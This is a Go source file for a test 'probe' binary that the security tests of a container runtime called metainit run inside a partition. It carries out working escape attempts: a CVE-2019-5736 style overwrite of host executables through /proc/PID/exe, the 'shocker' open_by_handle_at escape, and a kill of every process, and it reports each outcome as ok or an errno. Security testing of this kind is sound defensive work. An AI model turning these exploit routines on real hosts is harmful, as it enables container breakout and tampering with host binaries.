// Command probe is the attacker the security tests (tests/security_test.go)
// copy into a partition's rootfs: a static binary that tries, from inside a
// partition, what runc's CVEs did, and prints one line per attempt:
//
//	<what>: ok
//	<what>: <errno name>
//
// so that the test on the host can assert each outcome. It is not part of
// metainit.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: probe catch-exe DURATION N CMDLINE | write FILE [DATA] | connect PATH | procs | kill-all")
		os.Exit(2)
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "catch-exe":
		d, err := time.ParseDuration(args[0])
		if err != nil {
			fatal(err)
		}
		n, err := strconv.Atoi(args[1])
		if err != nil {
			fatal(err)
		}
		catchExe(d, n, args[2])
	case "write":
		data := ""
		if len(args) > 1 {
			data = args[1]
		}
		write(args[0], data)
	case "connect":
		connect(args[0])
	case "procs":
		procs()
	case "handle-root":
		handleRoot(args[0], args[1:])
	case "kill-all":
		report("kill(-1, SIGKILL)", unix.Kill(-1, unix.SIGKILL))
	default:
		fatal(fmt.Errorf("unknown probe %q", os.Args[1]))
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "probe:", err)
	os.Exit(2)
}

// report prints what was tried and how it ended: ok, or the errno's name.
func report(what string, err error) {
	if err == nil {
		fmt.Printf("%s: ok\n", what)
		return
	}
	if errno, ok := err.(unix.Errno); ok {
		fmt.Printf("%s: %s\n", what, unix.ErrnoName(errno))
		return
	}
	fmt.Printf("%s: %v\n", what, err)
}

// catchExe is the CVE-2019-5736 attacker: it watches the partition's /proc
// for a process whose executable is not one of the partition's own (that
// is a process metainit started: libcontainer's "metainit init", or
// metainit itself run through a #!/proc/self/exe script), stops it at once
// with SIGSTOP so the window cannot close, and tries every way to write to
// that executable: through /proc/PID/exe while it runs, and through an O_PATH
// handle reopened after it was killed (when ETXTBSY no longer protects a
// plain file). Only processes whose command line contains match are caught.
// It ends after n catches or d.
func catchExe(d time.Duration, n int, match string) {
	self, _ := os.Readlink("/proc/self/exe")
	deadline := time.Now().Add(d)
	seen := map[int]bool{}
	caught := 0
	for caught < n && time.Now().Before(deadline) {
		ents, err := os.ReadDir("/proc")
		if err != nil {
			fatal(err)
		}
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() || seen[pid] {
				continue
			}
			exe, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid))
			if err != nil || exe == self || exe == "/bin/busybox" {
				continue
			}
			// The pid stays across execve: look again next time round.
			cmd, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
			if err != nil || !strings.Contains(strings.ReplaceAll(string(cmd), "\x00", " "), match) {
				continue
			}
			seen[pid] = true
			if unix.Kill(pid, unix.SIGSTOP) != nil {
				continue // gone already
			}
			caught++
			attackExe(pid, exe)
		}
	}
	fmt.Printf("caught %d\n", caught)
}

func attackExe(pid int, exe string) {
	cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	fmt.Printf("caught pid %d exe %q cmdline %q\n", pid, exe, strings.ReplaceAll(string(cmd), "\x00", " "))
	link := fmt.Sprintf("/proc/%d/exe", pid)
	for _, f := range []struct {
		name  string
		flags int
	}{{"O_WRONLY", unix.O_WRONLY}, {"O_RDWR", unix.O_RDWR}, {"O_WRONLY|O_TRUNC", unix.O_WRONLY | unix.O_TRUNC}} {
		fd, err := unix.Open(link, f.flags|unix.O_CLOEXEC, 0)
		report("open exe "+f.name+" while running", err)
		if err == nil {
			writeFd(fd, "write exe while running")
		}
	}
	path, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
	report("open exe O_PATH", err)
	_ = unix.Kill(pid, unix.SIGKILL)
	_ = unix.Kill(pid, unix.SIGCONT)
	// Wait for it to die: from then on only a handle keeps the file.
	for i := 0; i < 200; i++ {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if err != nil || strings.Contains(string(b), ") Z ") {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if path < 0 {
		return
	}
	defer unix.Close(path)
	reopen := fmt.Sprintf("/proc/self/fd/%d", path)
	for _, f := range []struct {
		name  string
		flags int
	}{{"O_WRONLY", unix.O_WRONLY}, {"O_RDWR", unix.O_RDWR}} {
		fd, err := unix.Open(reopen, f.flags|unix.O_CLOEXEC, 0)
		report("reopen exe "+f.name+" after exit", err)
		if err == nil {
			writeFd(fd, "write exe after exit")
		}
	}
}

func writeFd(fd int, what string) {
	defer unix.Close(fd)
	_, err := unix.Pwrite(fd, []byte("#!/bin/sh\necho pwned\n"), 0)
	report(what, err)
}

// write opens file for writing (no O_CREAT, no O_TRUNC) and writes data, or
// when data is empty, writes back what the file holds (harmless if it works,
// and the test sees that it did).
func write(file, data string) {
	b := []byte(data)
	if data == "" {
		var err error
		if b, err = os.ReadFile(file); err != nil || len(b) == 0 {
			b = []byte("0\n")
		}
	}
	fd, err := unix.Open(file, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	report("open "+file, err)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	_, err = unix.Write(fd, b)
	report("write "+file, err)
}

// connect tries a stream and a seqpacket connection to a Unix socket path.
func connect(path string) {
	for _, typ := range []struct {
		name string
		t    int
	}{{"SOCK_SEQPACKET", unix.SOCK_SEQPACKET}, {"SOCK_STREAM", unix.SOCK_STREAM}, {"SOCK_DGRAM", unix.SOCK_DGRAM}} {
		fd, err := unix.Socket(unix.AF_UNIX, typ.t|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			fatal(err)
		}
		err = unix.Connect(fd, &unix.SockaddrUnix{Name: path})
		report("connect "+typ.name+" "+path, err)
		unix.Close(fd)
	}
}

// procs prints every process this partition can see: pid and command line.
func procs() {
	ents, _ := filepath.Glob("/proc/[0-9]*")
	for _, e := range ents {
		b, err := os.ReadFile(e + "/cmdline")
		if err != nil {
			continue
		}
		fmt.Printf("%s %s\n", filepath.Base(e), strings.ReplaceAll(strings.TrimRight(string(b), "\x00"), "\x00", " "))
	}
}

// handleRoot is the "shocker" attack (CAP_DAC_READ_SEARCH): with any fd on
// a mount as mount_fd, open_by_handle_at opens any inode of that file
// system by its handle, whether or not the mount shows it. It opens the
// file system's root directory (ext4: inode 2, generation 0; tmpfs: inode 1)
// through the mount at dir, lists it, and tries each of paths relative to it
// (a Unix socket: connect through /proc/self/fd/N).
func handleRoot(dir string, paths []string) {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, dir, 0)
	report("name_to_handle_at "+dir, err)
	if err != nil {
		return
	}
	fmt.Printf("handle type %#x size %d bytes %x\n", h.Type(), h.Size(), h.Bytes())
	mfd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fatal(err)
	}
	var root int = -1
	for _, ino := range []uint32{2, 1} {
		b := make([]byte, h.Size())
		switch {
		case h.Type() == 0xfe: // kernfs (cgroup): a 64-bit node id; the root is 1
			b[0] = byte(ino)
		case h.Size() == 8: // ext4 and others: ino32, gen32
			b[0] = byte(ino)
		case h.Size() == 12: // tmpfs: gen32, ino64
			b[4] = byte(ino)
		default:
			continue
		}
		fd, err := unix.OpenByHandleAt(mfd, unix.NewFileHandle(h.Type(), b), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
		report(fmt.Sprintf("open_by_handle_at inode %d", ino), err)
		if err == nil {
			root = fd
			break
		}
	}
	if root < 0 {
		return
	}
	f := os.NewFile(uintptr(root), "root")
	names, err := f.Readdirnames(-1)
	report("readdir of the file system's root", err)
	fmt.Printf("root holds %d names: %s\n", len(names), strings.Join(names, " "))
	for _, p := range paths {
		fd, err := unix.Openat(root, p, unix.O_PATH|unix.O_CLOEXEC, 0)
		report("openat root "+p, err)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFSOCK {
			connect(fmt.Sprintf("/proc/self/fd/%d", fd))
		}
	}
}
